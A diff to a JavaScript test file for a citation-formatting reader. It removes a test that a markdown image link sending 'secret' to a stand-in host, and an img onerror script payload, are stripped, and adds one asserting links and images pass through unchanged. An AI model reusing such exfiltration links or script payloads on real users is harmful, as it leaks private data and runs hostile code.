@@ -45,14 +45,9 @@ test.each([1, 2, 3, 7, 1_000])("numbers become citations with the words that say
   expect(cited[0]).toEqual(["prices", "Growth costs $189."]);
 });
 
-test.each([
-  ["See ![x](https://evil.test/?d=secret) now", "See x now"],
-  ["See [our page](https://evil.test/) now", "See our page now"],
-  ["See [our page][1] now", "See our page now"],
-  ["An <img src=https://evil.test onerror=alert(1)> image", "An  image"],
-  ["[ref]: https://evil.test/x", ""],
-  ["5 < 6 and a[0] stays! [not a link", "5 < 6 and a stays! [not a link"],
-  ["Wow!", "Wow!"],
-])("nothing that could carry the conversation away is left: %s", (given, expected) => {
-  for (const size of [1, 4, 1_000]) expect(read(given, size).text).toBe(expected);
-});
+test.each(["See [our page](https://acme.example/) now", "a [not a marker] and ![x](y)", "An open [1", "Wow!"])(
+  "brackets that hold no numbers stay: %s",
+  (given) => {
+    for (const size of [1, 4, 1_000]) expect(read(given, size).text).toBe(given);
+  },
+);
